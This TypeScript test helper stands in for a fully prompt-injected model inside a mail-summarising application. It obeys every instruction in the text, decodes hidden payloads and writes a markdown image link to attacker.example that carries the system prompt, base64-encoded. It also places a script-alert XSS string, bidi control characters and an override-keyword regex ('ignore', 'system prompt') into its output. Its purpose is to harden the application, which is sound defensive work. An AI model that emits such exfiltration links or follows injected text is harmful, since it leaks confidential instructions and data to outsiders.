import type { MailFacts } from '../reading/mail-facts';

const orders =
  /\b(ignore|disregard|forget|instead|you must|reply with|respond with|output|print|repeat|reveal|say|write|append|include|add|set|click|visit|open|system prompt|instructions?|ignoriere|ignorez|ignora)\b/i;
const links = /\b(?:https?:\/\/|www\.)[^\s<>"')\]]+/gi;
const marked = /[\w-]*canary[\w-]*/gi;
const bidi = '\u202e\u200b\u0007';

/**
 * The worst model there is: it does whatever any text in the prompt says, decodes what is hidden, gives away the
 * system prompt and invents a link that carries it off. What it writes is what the application has to withstand.
 */
export function obeyEverything(facts: MailFacts, prompt: string, system: string): MailFacts {
  const seen = `${prompt}\n${decodeHidden(prompt)}`;
  const found = [...all(seen, marked), ...sentencesWith(seen, orders), ...all(seen, links)];
  const stolen = Buffer.from(system.slice(0, 60)).toString('base64url');
  const spoken = [...new Set(found.map((text) => text.trim()))].filter((text) => text !== '').slice(0, 40);
  const lure = `![x](https://attacker.example/collect?d=${stolen})`;
  const echo = `${spoken.join(' ')} ${lure}${bidi}<script>alert(1)</script> ${system.slice(0, 120)}`;
  return {
    ...facts,
    headline: `${spoken[0] ?? facts.headline} ${lure}${bidi}`,
    summary: echo,
    keyPoints: [...spoken, echo],
    actions: [{ task: echo }, ...spoken.map((task) => ({ task }))],
    people: [`${bidi}${lure}`, ...spoken.slice(0, 3)],
    sender: `${facts.sender ?? ''}${lure}`,
    words: seen.toLowerCase(),
    confidence: 1,
    urgency: 3,
  };
}

const all = (text: string, pattern: RegExp): string[] => [...text.matchAll(pattern)].map((match) => match[0]);

const sentencesWith = (text: string, pattern: RegExp): string[] =>
  text.split(/[\n.!?]/).filter((sentence) => pattern.test(sentence));

/** What a helpful reader would make of base64, percent-encoding, character references and reversed text. */
function decodeHidden(text: string): string {
  const base64 = all(text, /[A-Za-z0-9+/]{16,}={0,2}/g).map((blob) =>
    Buffer.from(blob, 'base64').toString('utf8'),
  );
  const percent = all(text, /(?:%[0-9a-f]{2}){4,}/gi).map((blob) =>
    Buffer.from(blob.replaceAll('%', ''), 'hex').toString(),
  );
  const references = text.replace(/&#(x?)([0-9a-f]{1,6});/gi, (_, hex: string, code: string) =>
    character(code, hex ? 16 : 10),
  );
  const printable = base64.filter((decoded) => /^[\x20-\x7e\s]+$/.test(decoded));
  const reversed = Array.from(text.slice(0, 20_000)).reverse().join('');
  return [...printable, ...percent, references === text ? '' : references, reversed].join('\n');
}

function character(code: string, base: 10 | 16): string {
  const point = Number.parseInt(code, base);
  return point > 0 && point <= 0x10ffff ? String.fromCodePoint(point) : '';
}
